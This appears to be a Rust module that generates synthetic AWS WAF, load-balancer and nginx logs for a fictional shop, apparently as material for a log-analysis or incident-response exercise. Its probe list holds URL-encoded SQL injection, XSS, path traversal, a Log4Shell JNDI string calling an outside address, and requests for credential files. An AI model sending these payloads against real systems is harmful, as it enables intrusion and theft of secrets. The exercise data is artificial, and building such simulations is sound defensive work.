//! The shop: each request passes the firewall (WAF), the load balancer (ALB) and a web server (nginx), and leaves a
//! record with each. At night somebody looks for holes, and finds a forgotten file with an access key in it.

use super::company::{self, FRANKFURT, PRODUCTION, SCANNER, Server, VIRGINIA, WEB_1, WEB_2, WEB_US};
use super::moment::Moment;
use super::objects::{Objects, Timed};
use super::random::Random;
use anyhow::Result;
use serde_json::json;

/// A request to the shop.
#[derive(Clone)]
struct Request {
    time: Moment,
    client: String,
    port: u64,
    method: &'static str,
    path: String,
    query: String,
    agent: String,
    status: u64,
    bytes: u64,
    /// Thousandths of a second.
    duration: u64,
    /// The firewall's rule that ended it.
    blocked: Option<&'static str>,
}

/// Ordinary requests: method, path, status, and how often.
const PAGES: [(u64, (&str, &str, u64)); 14] = [
    (20, ("GET", "/", 200)),
    (16, ("GET", "/products", 200)),
    (30, ("GET", "/products/:id", 200)),
    (10, ("GET", "/search", 200)),
    (24, ("GET", "/static/app.js", 200)),
    (18, ("GET", "/static/app.css", 304)),
    (9, ("POST", "/cart/items", 201)),
    (5, ("GET", "/cart", 200)),
    (3, ("POST", "/checkout", 302)),
    (4, ("POST", "/login", 302)),
    (2, ("POST", "/login", 401)),
    (2, ("GET", "/products/:id/reviews", 404)),
    (1, ("GET", "/favicon.ico", 404)),
    (1, ("GET", "/recommendations", 502)),
];

/// What the scanner asks for: path, query, and the firewall's rule that stops it.
const PROBES: [(&str, &str, Option<&str>); 24] = [
    ("/.env", "", None),
    ("/.git/config", "", None),
    ("/.aws/credentials", "", None),
    ("/wp-login.php", "", None),
    ("/wp-admin/setup-config.php", "step=1", None),
    ("/phpmyadmin/index.php", "", None),
    ("/admin/", "", None),
    ("/administrator/index.php", "", None),
    ("/backup.zip", "", None),
    ("/backup.sql", "", None),
    ("/config.php.bak", "", None),
    ("/server-status", "", None),
    ("/actuator/env", "", None),
    ("/cgi-bin/test.cgi", "", None),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", None),
    ("/api/v1/users", "", None),
    ("/search", "q=%27%20OR%20%271%27%3D%271", Some("AWSManagedRulesSQLiRuleSet")),
    ("/search", "q=1%20UNION%20SELECT%20name%2Cpw%20FROM%20users--", Some("AWSManagedRulesSQLiRuleSet")),
    ("/products", "id=1%3BSELECT%20pg_sleep%285%29", Some("AWSManagedRulesSQLiRuleSet")),
    ("/search", "q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E", Some("AWSManagedRulesCommonRuleSet")),
    ("/download", "file=..%2F..%2F..%2Fetc%2Fpasswd", Some("AWSManagedRulesCommonRuleSet")),
    ("/", "x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%2Fa%7D", Some("AWSManagedRulesKnownBadInputsRuleSet")),
    ("/index.php", "page=php%3A%2F%2Ffilter", Some("AWSManagedRulesCommonRuleSet")),
    ("/login", "user=admin%27--", Some("AWSManagedRulesSQLiRuleSet")),
];
const SCANNER_AGENT: &str = "Mozilla/5.0 (compatible; scanprobe/1.9)";
/// The file that should not have been there.
const LEAK: &str = "/static/export/.env.bak";

/// The records of both shops.
pub(super) fn write(objects: &mut Objects) -> Result<()> {
    let mut random = Random::new("shop");
    let mut requests: Vec<Request> = (0..4_800).map(|_| ordinary(&mut random)).collect();
    requests.extend(scan(&mut random));
    requests.sort_by_key(|request| request.time);
    firewall(objects, &requests)?;
    balancer(objects, &requests, FRANKFURT, "shop-front.50dc6c495c0c9188", &mut random)?;
    for server in [&WEB_1, &WEB_2] {
        web_server(objects, &requests, server)?;
    }
    let mut random = Random::new("shop-us");
    let mut requests: Vec<Request> = (0..900).map(|_| ordinary(&mut random)).collect();
    requests.sort_by_key(|request| request.time);
    balancer(objects, &requests, VIRGINIA, "shop-us.73e2d6bc24d8a067", &mut random)?;
    web_server(objects, &requests, &WEB_US)
}

fn ordinary(random: &mut Random) -> Request {
    let (method, path, status) = random.weighted(&PAGES);
    let path = path.replace(":id", &random.between(1000, 1480).to_string());
    let query = match path.as_str() {
        "/search" => format!("q={}", random.pick(&["boots", "tent", "stove", "rain+jacket", "headlamp"])),
        "/products" if random.chance(40) => format!("page={}", random.between(1, 9)),
        _ => String::new(),
    };
    Request {
        time: Moment::of_business(random),
        client: company::customer(random),
        port: random.between(32_768, 60_999),
        method,
        path,
        query,
        agent: company::browser(random).to_owned(),
        status,
        bytes: if status == 304 { 0 } else { random.between(180, 60_000) },
        duration: random.between(2, 400),
        blocked: None,
    }
}

/// From 02:10 to 02:41, every few seconds; at 02:31 the scanner finds what it looked for.
fn scan(random: &mut Random) -> Vec<Request> {
    let mut requests = Vec::new();
    for round in 0..460 {
        let (path, query, blocked) = PROBES[(round + random.below(3) as usize) % PROBES.len()];
        let (path, status) = if round == 310 { (LEAK.to_owned(), 200) } else { (path.to_owned(), 404) };
        requests.push(Request {
            time: Moment::at(2, 10, 0).plus(round as u64 * 4_070 + random.below(900)),
            client: SCANNER.to_owned(),
            port: random.between(40_000, 60_999),
            method: if blocked.is_none() && random.chance(10) { "HEAD" } else { "GET" },
            path,
            query: if status == 200 { String::new() } else { query.to_owned() },
            agent: SCANNER_AGENT.to_owned(),
            status: if blocked.is_some() && status != 200 { 403 } else { status },
            bytes: if status == 200 { 642 } else { random.between(140, 180) },
            duration: random.between(1, 9),
            blocked: blocked.filter(|_| status != 200),
        });
    }
    requests
}

fn target(path: &str, query: &str) -> String {
    if query.is_empty() { path.to_owned() } else { format!("{path}?{query}") }
}

/// Records of AWS WAF, an object each hour.
fn firewall(objects: &mut Objects, requests: &[Request]) -> Result<()> {
    let mut random = Random::new("waf");
    let acl = format!(
        "arn:aws:wafv2:{FRANKFURT}:{PRODUCTION}:regional/webacl/shop-edge/0a1b2c3d-0000-4000-8000-000000000001"
    );
    let mut lines = Timed::new();
    for request in requests {
        let (action, rule, kind) = match request.blocked {
            Some(rule) => ("BLOCK", format!("AWS-{rule}"), "MANAGED_RULE_GROUP"),
            None => ("ALLOW", "Default_Action".to_owned(), "REGULAR"),
        };
        let groups = request.blocked.map(|rule| {
            json!({"ruleGroupId": format!("AWS#{rule}"), "terminatingRule": {"ruleId": "RequestInspection", "action": "BLOCK"},
                "nonTerminatingMatchingRules": [], "excludedRules": null})
        });
        let record = json!({
            "timestamp": request.time.milliseconds(), "formatVersion": 1, "webaclId": acl, "terminatingRuleId": rule,
            "terminatingRuleType": kind, "action": action, "terminatingRuleMatchDetails": [], "httpSourceName": "ALB",
            "httpSourceId": format!("{PRODUCTION}-app/shop-front/50dc6c495c0c9188"),
            "ruleGroupList": groups.into_iter().collect::<Vec<_>>(),
            "rateBasedRuleList": [], "nonTerminatingMatchingRules": [], "requestHeadersInserted": null, "responseCodeSent": null,
            "httpRequest": {
                "clientIp": request.client, "country": "-",
                "headers": [{"name": "Host", "value": "shop.kestrelmoss.example"}, {"name": "User-Agent", "value": request.agent}],
                "uri": request.path, "args": request.query, "httpVersion": "HTTP/2.0", "httpMethod": request.method,
                "requestId": format!("1-{:08x}-{}", request.time.seconds(), random.hex(24)),
            },
        });
        lines.push(request.time, record.to_string());
    }
    for (start, text) in lines.texts(24) {
        let key = format!(
            "AWSLogs/{PRODUCTION}/WAFLogs/{FRANKFURT}/shop-edge/2026/03/11/{}/00/{PRODUCTION}_waflogs_{FRANKFURT}_shop-edge_{}_{}.log.gz",
            start.hour(),
            start.delivery(),
            random.hex(8)
        );
        objects.add_gzip(key, text.as_bytes())?;
    }
    Ok(())
}

/// Access logs of an Application Load Balancer, an object each hour.
fn balancer(
    objects: &mut Objects,
    requests: &[Request],
    region: &str,
    name: &str,
    random: &mut Random,
) -> Result<()> {
    let (short, digest) = name.split_once('.').unwrap_or((name, "0"));
    let group =
        format!("arn:aws:elasticloadbalancing:{region}:{PRODUCTION}:targetgroup/shop-web/73e2d6bc24d8a067");
    let certificate =
        format!("arn:aws:acm:{region}:{PRODUCTION}:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99");
    let mut lines = Timed::new();
    for request in requests {
        let client = if request.client.contains(':') {
            format!("[{}]", request.client)
        } else {
            request.client.clone()
        };
        let server = server_of(request, region);
        let (reached, times, status, actions) = match request.blocked {
            Some(_) => ("-".to_owned(), "-1 -1 -1".to_owned(), "-".to_owned(), "waf"),
            None => (
                format!("{}:8080", server.address),
                format!("0.001 0.{:03} 0.000", request.duration),
                request.status.to_string(),
                "waf,forward",
            ),
        };
        let line = format!(
            "h2 {time} app/{short}/{digest} {client}:{port} {reached} {times} {answer} {status} {received} {sent} \
             \"{method} https://shop.kestrelmoss.example:443{target} HTTP/2.0\" \"{agent}\" TLS_AES_128_GCM_SHA256 TLSv1.3 \
             {group} \"Root=1-{seconds:08x}-{trace}\" \"shop.kestrelmoss.example\" \"{certificate}\" 0 {created} \"{actions}\" \
             \"-\" \"-\" \"{reached}\" \"{status}\" \"-\" \"-\" TID_{conn} \"-\" \"-\" \"-\"",
            time = request.time.plus(request.duration).iso_precise(),
            port = request.port,
            answer = request.status,
            received = random.between(90, 900),
            sent = request.bytes,
            method = request.method,
            target = target(&request.path, &request.query),
            agent = request.agent,
            seconds = request.time.seconds(),
            trace = random.hex(24),
            created = request.time.iso_precise(),
            conn = random.hex(32),
        );
        lines.push(request.time, line);
    }
    let prefix = format!("AWSLogs/{PRODUCTION}/elasticloadbalancing/{region}/2026/03/11");
    for (start, text) in lines.texts(24) {
        let key = format!(
            "{prefix}/{PRODUCTION}_elasticloadbalancing_{region}_app.{name}_{}_10.20.0.7_{}.log.gz",
            start.delivery(),
            random.letters(8)
        );
        objects.add_gzip(key, text.as_bytes())?;
    }
    objects.add(
        format!("{prefix}/ELBAccessLogTestFile"),
        format!("Enable AccessLog for ELB: app/{short}/{digest} at {}\n", Moment::at(0, 0, 12).iso_precise()),
    );
    Ok(())
}

fn server_of(request: &Request, region: &str) -> &'static Server {
    match (region, request.port % 2) {
        (VIRGINIA, _) => &WEB_US,
        (_, 0) => &WEB_1,
        _ => &WEB_2,
    }
}

/// A server's access and error log, rotated at noon and at midnight.
fn web_server(objects: &mut Objects, requests: &[Request], server: &Server) -> Result<()> {
    let mut random = Random::new(server.name);
    let (mut access, mut errors) = (Timed::new(), Timed::new());
    for (number, request) in requests.iter().enumerate() {
        if request.blocked.is_some() || server_of(request, server.region).name != server.name {
            continue;
        }
        access.push(
            request.time,
            format!(
                "{client} - - [{time}] \"{method} {target} HTTP/1.1\" {status} {bytes} \"{referrer}\" \"{agent}\" \"{client}\"",
                client = request.client,
                time = request.time.common_log(),
                method = request.method,
                target = target(&request.path, &request.query),
                status = request.status,
                bytes = request.bytes,
                referrer = if random.chance(50) && request.client != SCANNER { "https://shop.kestrelmoss.example/" } else { "-" },
                agent = request.agent,
            ),
        );
        let what = match request.status {
            404 => format!("open() \"/srv/shop{}\" failed (2: No such file or directory)", request.path),
            502 => "connect() failed (111: Connection refused) while connecting to upstream".to_owned(),
            _ => continue,
        };
        errors.push(
            request.time,
            format!(
                "{} [error] 812#812: *{number} {what}, client: {}, server: shop.kestrelmoss.example, request: \"{} {} HTTP/1.1\", \
                 host: \"shop.kestrelmoss.example\"",
                request.time.nginx_error(),
                request.client,
                request.method,
                target(&request.path, &request.query),
            ),
        );
    }
    let folder = format!("hosts/{}/{}/{}/nginx", server.account, server.region, server.name);
    for (start, text) in access.texts(2) {
        objects.add_gzip(format!("{folder}/access.log-2026-03-11-{}.gz", start.hour()), text.as_bytes())?;
    }
    for (start, text) in errors.texts(2) {
        objects.add(format!("{folder}/error.log-2026-03-11-{}", start.hour()), text);
    }
    Ok(())
}
